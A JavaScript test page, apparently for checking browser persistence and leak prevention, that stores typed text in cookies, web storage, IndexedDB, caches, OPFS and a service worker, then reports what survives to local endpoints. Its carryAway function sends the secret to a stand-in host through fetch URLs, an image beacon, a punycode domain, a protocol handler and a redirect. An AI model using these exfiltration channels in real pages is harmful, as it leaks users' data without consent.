// A portal page that keeps what was typed wherever a browser can. Enter: keep it, and say what is kept.
// F2: say what is kept. F8: carry what is kept to where it must not go. F9: say that keys arrive.
"use strict";

const field = document.getElementById("field");

function cookie(name) {
  return document.cookie.split("; ").find((one) => one.startsWith(`${name}=`))?.split("=")[1] ?? null;
}

function request(asked) {
  return new Promise((resolve, reject) => {
    asked.onsuccess = () => resolve(asked.result);
    asked.onerror = () => reject(asked.error);
  });
}

async function database() {
  const opening = indexedDB.open("hoard", 1);
  opening.onupgradeneeded = () => opening.result.createObjectStore("kept");
  return request(opening);
}

async function cached(name) {
  if (!(await caches.has(name))) return null;
  const kept = await (await caches.open(name)).match("/kept");
  return kept ? kept.text() : null;
}

async function worker(secret) {
  await navigator.serviceWorker.register("/worker.js");
  const { active } = await navigator.serviceWorker.ready;
  const { port1, port2 } = new MessageChannel();
  const done = new Promise((resolve) => { port1.onmessage = resolve; });
  active.postMessage(secret, [port2]);
  await done;
}

const places = {
  "cookie": {
    keep: (secret) => { document.cookie = `lasting=${secret}; max-age=86400`; },
    find: () => cookie("lasting"),
  },
  "session cookie": {
    keep: (secret) => { document.cookie = `passing=${secret}`; },
    find: () => cookie("passing"),
  },
  "localStorage": {
    keep: (secret) => localStorage.setItem("kept", secret),
    find: () => localStorage.getItem("kept"),
  },
  "sessionStorage": {
    keep: (secret) => sessionStorage.setItem("kept", secret),
    find: () => sessionStorage.getItem("kept"),
  },
  "IndexedDB": {
    keep: async (secret) => {
      const kept = (await database()).transaction("kept", "readwrite", { durability: "strict" });
      kept.objectStore("kept").put(secret, "kept");
      await new Promise((resolve) => { kept.oncomplete = resolve; });
    },
    find: async () => request((await database()).transaction("kept").objectStore("kept").get("kept")),
  },
  "Cache API": {
    keep: async (secret) => (await caches.open("page")).put("/kept", new Response(secret)),
    find: () => cached("page"),
  },
  "service worker": {
    keep: worker,
    find: async () => (await navigator.serviceWorker.getRegistration()) ? cached("worker") : null,
  },
  "OPFS": {
    keep: async (secret) => {
      const folder = await navigator.storage.getDirectory();
      const file = await (await folder.getFileHandle("kept", { create: true })).createWritable();
      await file.write(secret);
      await file.close();
    },
    find: async () => {
      const folder = await navigator.storage.getDirectory();
      for await (const name of folder.keys()) {
        return (await (await folder.getFileHandle(name)).getFile()).text();
      }
      return null;
    },
  },
  "window name": { keep: (secret) => { window.name = secret; }, find: () => window.name },
  "form": { keep: () => {}, find: () => field.value },
};

async function each(act) {
  const outcomes = {};
  for (const [name, place] of Object.entries(places)) {
    try {
      outcomes[name] = (await act(place)) || null;
    } catch (error) {
      outcomes[name] = `${error}`;
    }
  }
  return outcomes;
}

async function tell(path) {
  const found = await each((place) => place.find());
  await fetch(path, { method: "POST", body: JSON.stringify(found) });
}

function carryAway(secret) {
  fetch(`http://somebody:${secret}@elsewhere.example/${secret}?${secret}`).catch(() => {});
  new Image().src = `http://elsewhere.example/${secret}?${secret}`;
  fetch(`http://xn--wgv71a.jp/${secret}`).catch(() => {});
  open(`web+${secret}:${secret}`);
  location.href = `http://elsewhere.example:81/${secret}?${secret}#${secret}`;
}

addEventListener("keydown", async (event) => {
  if (!["Enter", "F2", "F8", "F9"].includes(event.key)) {
    field.focus();
    return;
  }
  event.preventDefault();
  if (event.key === "Enter") {
    await each((place) => place.keep(field.value));
    await tell("/stored");
  } else if (event.key === "F2") {
    await tell("/found");
  } else if (event.key === "F9") {
    await fetch("/listening", { method: "POST" });
  } else {
    carryAway(field.value);
  }
});
